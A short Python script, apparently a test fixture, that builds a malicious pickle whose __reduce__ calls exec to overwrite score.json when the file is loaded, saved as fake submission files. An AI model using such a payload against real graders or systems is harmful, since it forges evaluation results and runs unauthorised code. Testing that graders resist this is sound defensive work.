"""Forgery: a pickle that would write a score when it is loaded."""
import pickle


class Runs:
    def __reduce__(self):
        return exec, ("open('score.json', 'w').write('0.0')",)


for name in ('submission.csv', 'submission.pkl'):
    with open(name, 'wb') as file:
        pickle.dump(Runs(), file)
